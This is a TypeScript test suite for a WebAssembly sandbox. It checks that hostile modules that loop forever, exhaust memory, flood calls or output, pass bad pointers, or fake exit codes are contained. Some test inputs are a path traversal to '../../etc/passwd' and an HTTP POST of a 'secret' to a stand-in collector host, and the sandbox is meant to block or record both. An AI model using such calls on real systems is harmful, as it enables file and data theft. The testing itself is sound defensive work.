// Programs that try to get out of the sandbox, to stay in it for ever, or to lie about what they did there.
import { describe, expect, test } from 'vitest';
import { callsOf, examples, runSandboxed } from '../support/sandboxed.ts';
import { coreModule, func, join, name, section, u32, vec, wat } from '../support/wasm-builder.ts';

const wasi = (names: string, parameters: string): string =>
  `(import "wasi_snapshot_preview1" "${names}" (func $${names} (param ${parameters}) (result i32)))`;

describe('a program that never ends', () => {
  test('in its start section is ended, and nothing else is run', async () => {
    const wasm = wat('(module (func $f (loop (br 0))) (start $f) (func (export "g") (result i32) (i32.const 1)))');
    const { setup, examples: runs } = await runSandboxed(wasm, { functions: { g: examples([[], 1]) } });
    expect(setup).toEqual({ outcome: 'out of', budget: 'time' });
    expect(runs.map(({ result }) => result)).toEqual([
      { outcome: 'not run', reason: expect.stringContaining('before any call') },
    ]);
  });

  test('in one example takes that example with it, and no other', async () => {
    const wasm = wat(
      '(module (func (export "f") (param i32) (result i32) (if (local.get 0) (then (loop (br 0)))) (i32.const 7)))',
    );
    const { examples: runs } = await runSandboxed(wasm, { functions: { f: examples([[0], 7], [[1], 7], [[0], 7]) } });
    expect(runs.map(({ result }) => result)).toEqual([
      { outcome: 'same' },
      { outcome: 'out of', budget: 'time' },
      { outcome: 'same' },
    ]);
  });

  test('cannot hide what it did before: calls are counted where its end does not reach', async () => {
    const wasm = wat(`(module (import "extism:host/env" "http_request" (func $get (param i64 i64) (result i64)))
      (func $f (drop (call $get (i64.const 0) (i64.const 0))) (loop (br 0))) (start $f))`);
    const behaviour = await runSandboxed(wasm);
    expect(behaviour.setup).toEqual({ outcome: 'out of', budget: 'time' });
    expect(behaviour.observed).toMatchObject([{ calls: 1, atSetup: 1, import: { name: 'http_request' } }]);
  });

  test('by calling itself runs out of stack', async () => {
    const wasm = wat('(module (func $f (export "f") (result i32) (i32.add (call $f) (i32.const 1))))');
    const { examples: runs } = await runSandboxed(wasm, { functions: { f: examples([[], 1]) } });
    expect(runs[0]?.result).toEqual({ outcome: 'trapped', message: 'Maximum call stack size exceeded' });
  });

  test('because it waits for another thread is ended too', async () => {
    const wasm = wat(`(module (memory 1 1 shared) (func (export "f") (result i32)
      (memory.atomic.wait32 (i32.const 0) (i32.const 0) (i64.const -1))))`);
    const { examples: runs } = await runSandboxed(wasm, { functions: { f: examples([[], 1], [[], 1]) } });
    expect(runs[0]?.result).toEqual({ outcome: 'out of', budget: 'time' });
  });

  test('but waits for a clock, gets there: every look moves it', async () => {
    const wasm = wat(`(module ${wasi('clock_time_get', 'i32 i64 i32')} (memory (export "memory") 1)
      (func (export "_start") (loop
        (drop (call $clock_time_get (i32.const 0) (i64.const 0) (i32.const 8)))
        (br_if 0 (i64.lt_u (i64.load (i32.const 8)) (i64.const 1000000001000000000))))))`);
    const { setup, observed } = await runSandboxed(wasm, { abi: 'wasi-command' });
    expect(setup).toEqual({ outcome: 'done' });
    expect(observed[0]?.calls).toBe(1000);
  });
});

describe('a program that takes all there is', () => {
  test('of memory is refused more by the engine, at the same page on every machine', async () => {
    const wasm = wat(`(module (memory (export "memory") 1) (func (export "f") (result i32)
      (loop (br_if 0 (i32.ne (memory.grow (i32.const 1)) (i32.const -1)))) (memory.size)))`);
    const { memoryBytes, examples: runs } = await runSandboxed(wasm, {
      functions: { f: examples([[], 64]) },
      limits: { memoryBytes: 64 * 65_536 },
    });
    expect(runs[0]?.result).toEqual({ outcome: 'same' });
    expect(memoryBytes).toBe(64 * 65_536);
  });

  test.each([
    '(import "env" "memory" (memory 1))',
    '(import "env" "memory" (memory 1 65536))',
    '(import "env" "memory" (memory 1 65536 shared))',
    '(memory 1 65536 shared)',
    '(memory i64 1)',
  ])('of any kind of memory is refused more at the same page: %s', async (memory) => {
    const is64 = memory.includes('i64');
    const [type, size] = is64 ? ['i64', '(i32.wrap_i64 (memory.size))'] : ['i32', '(memory.size)'];
    const wasm = wat(`(module ${memory} (func (export "f") (result i32)
      (loop (br_if 0 (${type}.ne (memory.grow (${type}.const 1)) (${type}.const -1)))) ${size}))`);
    const { examples: runs } = await runSandboxed(wasm, {
      functions: { f: examples([[], 64]) },
      limits: { memoryBytes: 64 * 65_536 },
    });
    expect(runs[0]?.result).toEqual({ outcome: 'same' });
  });

  test('of memory before it starts is not started', async () => {
    const { setup } = await runSandboxed(wat('(module (memory 65536))'));
    expect(setup).toEqual({ outcome: 'out of', budget: 'memory' });
  });

  test('of memory that it wants to be given is not started', async () => {
    const { setup } = await runSandboxed(wat('(module (import "env" "memory" (memory 65536)))'));
    expect(setup).toEqual({ outcome: 'out of', budget: 'memory' });
  });

  test('of table is not started', async () => {
    const { setup } = await runSandboxed(wat('(module (import "env" "table" (table 10000000 funcref)))'));
    expect(setup).toEqual({ outcome: 'not run', reason: expect.stringContaining('larger than implementation limit') });
  });

  test('of objects is ended, though the engine does not end its thread', async () => {
    const body = [
      2,
      1,
      0x63,
      1,
      1,
      0x7f,
      0x41,
      ...[0xa0, 0x8d, 0x06],
      0xfb,
      7,
      1,
      0x21,
      0,
      0x03,
      0x40,
      0x20,
      0,
      0x20,
      1,
      0x41,
      ...[0xa0, 0x8d, 0x06],
      0xfb,
      7,
      0,
      0xfb,
      0x0e,
      1,
      0x20,
      1,
      0x41,
      1,
      0x6a,
      0x21,
      1,
      0x0c,
      0,
      0x0b,
      0x0b,
    ];
    const wasm = coreModule(
      section(1, vec([0x5e, 0x7e, 1], [0x5e, 0x6e, 1], func())),
      section(3, vec([2])),
      section(7, vec(join(name('f'), 0, 0))),
      section(10, vec(join(u32(body.length), body))),
    );
    const { examples: runs } = await runSandboxed(wasm, { functions: { f: examples([[], 1]) } });
    expect(runs[0]?.result).toEqual({ outcome: 'out of', budget: 'memory' });
  });

  test('of many memories at once is ended when the process has grown too large', async () => {
    const memories = Array.from({ length: 10 }, () => [0x00, 0x01]);
    const fill = Array.from({ length: 10 }, (_, index) => [
      0x41,
      ...[0xff, 0x0f],
      0x40,
      index,
      0x1a,
      0x41,
      0,
      0x41,
      1,
      0x41,
      ...[0x80, 0x80, 0x80, 0xc0, 0x00],
      0xfc,
      0x0b,
      index,
    ]);
    const body = join(0, ...fill, 0x0b);
    const wasm = coreModule(
      section(1, vec(func())),
      section(3, vec([0])),
      section(5, vec(...memories)),
      section(8, [0]),
      section(10, vec(join(u32(body.length), body))),
    );
    const { setup } = await runSandboxed(wasm, { limits: { processBytes: 300_000_000 } });
    expect(setup).toEqual({ outcome: 'out of', budget: 'memory' });
  });

  test('of calls is stopped at the same call on every machine, also if it catches the stop', async () => {
    const wasm = wat(`(module (import "host" "ping" (func $ping)) (func (export "f") (result i32)
      (loop $again (try (do (call $ping)) (catch_all)) (br $again)) (i32.const 1)))`);
    const behaviour = await runSandboxed(wasm, { functions: { f: examples([[], 1]) }, limits: { calls: 1000 } });
    expect(callsOf(behaviour)).toEqual(['host.ping x1000']);
    expect(behaviour.examples[0]?.result).toEqual({ outcome: 'out of', budget: 'calls' });
    const plain = wat('(module (import "host" "ping" (func $ping)) (func (export "f") (loop (call $ping) (br 0))))');
    const ended = await runSandboxed(plain, { functions: { f: examples([[], 1]) }, limits: { calls: 1000 } });
    expect(ended.examples[0]?.result).toEqual({ outcome: 'out of', budget: 'calls' });
  });

  test('of output is stopped, however many vectors name the same bytes', async () => {
    const wasm = wat(`(module ${wasi('fd_write', 'i32 i32 i32 i32')} (memory (export "memory") 1)
      (func (export "_start") (local $i i32)
        (loop (i32.store offset=4 (i32.shl (local.get $i) (i32.const 3)) (i32.const 65536))
          (br_if 0 (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 8191))))
        (loop (drop (call $fd_write (i32.const 1) (i32.const 0) (i32.const 8191) (i32.const 65532))) (br 0))))`);
    const { examples: runs } = await runSandboxed(wasm, {
      abi: 'wasi-command',
      functions: { _start: examples(['', '']) },
    });
    expect(runs[0]?.result).toEqual({ outcome: 'out of', budget: 'output' });
  });

  test('of blocks in the kernel of Extism is stopped before they are there', async () => {
    const wasm = wat(`(module (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
      (func (export "f") (result i32) (drop (call $alloc (i64.const 0x7fffffffffffffff))) (i32.const 0)))`);
    const { examples: runs } = await runSandboxed(wasm, { abi: 'extism', functions: { f: examples(['', '']) } });
    expect(runs[0]?.result).toEqual({ outcome: 'out of', budget: 'memory' });
  });
});

describe('a program that reaches for the world', () => {
  test('opens no file by WASI: the path is written down, the answer is no', async () => {
    const wasm = wat(`(module
      (import "wasi_snapshot_preview1" "path_open"
        (func $open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
      (import "wasi_snapshot_preview1" "sock_accept" (func $accept (param i32 i32 i32) (result i32)))
      (import "wasi_snapshot_preview1" "fd_prestat_get" (func $prestat (param i32 i32) (result i32)))
      (memory (export "memory") 1) (data (i32.const 8) "../../etc/passwd")
      (func (export "_start")
        (if (i32.ne (i32.const 0) (call $prestat (i32.const 3) (i32.const 64))) (then unreachable))
        (if (i32.ne (i32.const 8) (call $prestat (i32.const 4) (i32.const 64))) (then unreachable))
        (if (i32.ne (i32.const 76) (call $accept (i32.const 3) (i32.const 0) (i32.const 64))) (then unreachable))
        (if (i32.ne (i32.const 76) (call $open (i32.const 3) (i32.const 0) (i32.const 8) (i32.const 16) (i32.const 0)
          (i64.const -1) (i64.const -1) (i32.const 0) (i32.const 64))) (then unreachable))))`);
    const { setup, observed } = await runSandboxed(wasm, { abi: 'wasi-command' });
    expect(setup).toEqual({ outcome: 'done' });
    expect(observed.map(({ import: item, samples }) => [item.name, samples])).toEqual([
      ['path_open', ['../../etc/passwd']],
      ['sock_accept', ['3 0 64']],
      ['fd_prestat_get', ['3 64', '4 64']],
    ]);
  });

  test('sends nothing by Extism: the address is written down', async () => {
    const request = '{"url":"https://collector.example/?secret","method":"POST"}';
    const stores = [...request].map(
      (letter, index) =>
        `(call $store (i64.add (local.get $at) (i64.const ${index})) (i32.const ${letter.charCodeAt(0)}))`,
    );
    const wasm = wat(`(module
      (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
      (import "extism:host/env" "store_u8" (func $store (param i64 i32)))
      (import "extism:host/env" "http_request" (func $get (param i64 i64) (result i64)))
      (func (export "f") (result i32) (local $at i64)
        (local.set $at (call $alloc (i64.const ${request.length}))) ${stores.join(' ')}
        (i32.wrap_i64 (call $get (local.get $at) (i64.const 0)))))`);
    const { observed, examples: runs } = await runSandboxed(wasm, {
      abi: 'extism',
      functions: { f: examples(['', 'sent']) },
    });
    expect(observed.at(-1)?.samples).toEqual(['POST https://collector.example/?secret']);
    expect(runs[0]?.result).toEqual({ outcome: 'needs a host', imports: ['extism:host/env.http_request'] });
  });
});

describe('a program that hands over hostile pointers', () => {
  const pointers: readonly (readonly [string, number, number])[] = [
    ['a length of 2^32 - 1', 0, -1],
    ['a negative pointer', -1, 16],
    ['a pointer behind the end', 65_537, 0],
    ['an end behind the end', 65_535, 2],
    ['both at their largest', -1, -1],
  ];

  test.each(pointers)('%s traps in random_get, fd_write and args_get', async (_title, pointer, length) => {
    const functions = {
      random: examples([[], 0]),
      write: examples([[], 0]),
      vectors: examples([[], 0]),
      args: examples([[], 0]),
    };
    const wasm = wat(`(module ${wasi('random_get', 'i32 i32')} ${wasi('fd_write', 'i32 i32 i32 i32')}
      ${wasi('args_get', 'i32 i32')} (memory (export "memory") 1)
      (func (export "random") (result i32) (call $random_get (i32.const ${pointer}) (i32.const ${length})))
      (func (export "write") (result i32) (i32.store (i32.const 0) (i32.const ${pointer}))
        (i32.store (i32.const 4) (i32.const ${length}))
        (call $fd_write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 16)))
      (func (export "vectors") (result i32)
        (call $fd_write (i32.const 1) (i32.const ${pointer}) (i32.const ${length === 0 ? 1 : length}) (i32.const 16)))
      (func (export "args") (result i32) (call $args_get (i32.const ${pointer === 0 ? -4 : pointer}) (i32.const ${pointer}))))`);
    const { examples: runs } = await runSandboxed(wasm, { functions });
    const message = 'it gave a pointer beyond its memory to an import';
    expect(runs.map(({ result }) => result)).toEqual(runs.map(() => ({ outcome: 'trapped', message })));
  });

  test('addresses beyond the blocks of Extism trap', async () => {
    const wasm = wat(`(module
      (import "extism:host/env" "load_u64" (func $load (param i64) (result i64)))
      (import "extism:host/env" "store_u8" (func $store (param i64 i32)))
      (import "extism:host/env" "input_load_u8" (func $input (param i64) (result i32)))
      (import "extism:host/env" "output_set" (func $output (param i64 i64)))
      (func (export "load") (result i32) (i32.wrap_i64 (call $load (i64.const -1))))
      (func (export "store") (result i32) (call $store (i64.const 0x7fffffffffffffff) (i32.const 1)) (i32.const 0))
      (func (export "input") (result i32) (call $input (i64.const 100)))
      (func (export "output") (result i32) (call $output (i64.const 8) (i64.const -1)) (i32.const 0)))`);
    const functions = {
      load: examples(['', '']),
      store: examples(['', '']),
      input: examples(['', '']),
      output: examples(['', '']),
    };
    const { examples: runs } = await runSandboxed(wasm, { abi: 'extism', functions });
    expect(runs.map(({ result }) => result.outcome)).toEqual(['trapped', 'trapped', 'trapped', 'trapped']);
  });

  test('a start section that hands over a pointer has no memory to show yet', async () => {
    const wasm = wat(`(module ${wasi('random_get', 'i32 i32')} (memory (export "memory") 1)
      (func $f (drop (call $random_get (i32.const 0) (i32.const 8)))) (start $f))`);
    const { setup } = await runSandboxed(wasm);
    expect(setup).toEqual({ outcome: 'trapped', message: 'it gave a pointer to an import, and shows no memory' });
  });

  test('references instead of numbers trap', async () => {
    const wasm = wat(`(module (import "wasi_snapshot_preview1" "proc_exit" (func $exit (param externref)))
      (func (export "_start") (call $exit (ref.null extern))))`);
    const { setup } = await runSandboxed(wasm, { abi: 'wasi-command' });
    expect(setup).toEqual({ outcome: 'trapped', message: 'an import was given a reference instead of a number' });
  });

  test('an import declared with types of its own gets results of those types', async () => {
    const wasm = wat(
      `(module (import "wasi_snapshot_preview1" "sched_yield" (func $yield (result i64 f32 externref funcref)))
      (func (export "f") (result f32) (local f32) (drop (drop (call $yield)) ) ))`.replace(
        '(drop (drop (call $yield)) ) )',
        '(call $yield) drop drop local.set 0 drop local.get 0)',
      ),
    );
    const { examples: runs } = await runSandboxed(wasm, { functions: { f: examples([[], 0]) } });
    expect(runs[0]?.result).toEqual({ outcome: 'same' });
  });
});

describe('a program that lies', () => {
  test('with an output that is not UTF-8 is told so', async () => {
    const wasm =
      wat(`(module ${wasi('fd_write', 'i32 i32 i32 i32')} (memory (export "memory") 1) (data (i32.const 0) "\\10\\00\\00\\00\\02\\00\\00\\00")
      (data (i32.const 16) "\\ff\\fe") (func (export "_start") (drop (call $fd_write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8)))))`);
    const { examples: runs } = await runSandboxed(wasm, {
      abi: 'wasi-command',
      functions: { _start: examples(['', '??']) },
    });
    expect(runs[0]?.result).toEqual({ outcome: 'different', expected: '"??"', got: '2 bytes that are not UTF-8' });
  });

  test('with a good exit after a stop is not believed', async () => {
    const wasm = wat(`(module (import "wasi_snapshot_preview1" "proc_exit" (func $exit (param i32)))
      (func (export "_start") (try (do (call $exit (i32.const 3))) (catch_all)) (try (do (call $exit (i32.const 0))) (catch_all))))`);
    const { examples: runs } = await runSandboxed(wasm, {
      abi: 'wasi-command',
      functions: { _start: examples(['', '']) },
    });
    expect(runs[0]?.result).toMatchObject({ outcome: 'failed', message: expect.stringContaining('exit code 3') });
  });

  test('with names that are special in JavaScript imports and exports plain names', async () => {
    const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'then'];
    const imports = names.flatMap((module, at) =>
      names.map((item, index) => `(import "${module}" "${item}" (func $f${at * 6 + index} (result i32)))`),
    );
    const exported = names.map(
      (item, index) => `(func (export "${item}") (result i32) (i32.add (i32.const ${index}) (call $f${index})))`,
    );
    const functions = Object.fromEntries(names.map((item, index) => [item, examples([[], index])]));
    const behaviour = await runSandboxed(wat(`(module ${imports.join('')} ${exported.join('')})`), {
      functions: Object.fromEntries(Object.entries(functions)),
    });
    expect(behaviour.examples.map(({ result }) => result)).toEqual(names.slice(0).map(() => ({ outcome: 'same' })));
    expect(callsOf(behaviour)).toEqual(names.map((item) => `__proto__.${item} x1`));
  });

  test('with one name for two imports gets both', async () => {
    const wasm =
      wat(`(module (import "a" "b" (global i32)) (import "a" "b" (func $f (result i32))) (import "a" "b" (memory 1))
      (func (export "f") (result i32) (call $f)))`);
    const behaviour = await runSandboxed(wasm, { functions: { f: examples([[], 0]) } });
    expect(behaviour.setup).toEqual({ outcome: 'done' });
    expect(callsOf(behaviour)).toEqual(['a.b x1']);
  });

  test('at the edge of its memory, and of its buffer, is placed nowhere', async () => {
    const wasm = wat(`(module (memory (export "memory") 1) (global (export "buffer") i32 (i32.const -1))
      (func (export "f") (param i32 i32) (result i32) (i32.const 1)))`);
    const { examples: runs } = await runSandboxed(wasm, { functions: { f: examples([['text'], 1]) } });
    expect(runs[0]?.result).toEqual({ outcome: 'trapped', message: 'its buffer lies beyond every memory' });
  });

  test('with thousands of imports that are all called is told in bounds', async () => {
    const names = Array.from({ length: 5_000 }, (_, index) => `i${index}`);
    const wasm = coreModule(
      section(1, vec(func(), func([0x7f]))),
      section(2, vec(...names.map((item) => join(name('m'), name(item), 0x00, u32(1))))),
      section(3, vec([0])),
      section(8, u32(5_000)),
      section(
        10,
        vec(
          ((body) => join(u32(body.length), body))(
            join(0, ...names.flatMap((_item, index) => [[0x41, 1, 0x10, ...u32(index)]]), 0x0b),
          ),
        ),
      ),
    );
    const { setup, observed } = await runSandboxed(wasm);
    expect(setup).toEqual({ outcome: 'done' });
    expect(observed.length).toBe(5_000);
    expect(observed.flatMap(({ samples }) => samples).length).toBe(1_000);
  });
});
